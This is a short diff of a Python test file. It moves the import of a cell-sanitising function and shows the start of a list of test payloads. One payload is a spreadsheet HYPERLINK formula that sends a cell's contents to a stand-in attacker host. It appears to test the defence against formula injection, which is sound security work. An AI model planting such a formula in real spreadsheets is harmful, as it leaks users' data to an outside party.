@@ -6,7 +6,7 @@ import io
 import pytest
 from openpyxl import load_workbook
 
-from binhdang.documents.engine.xlsx import safe_cell_text
+from binhdang.formats.cells import safe_cell_text
 
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào")',
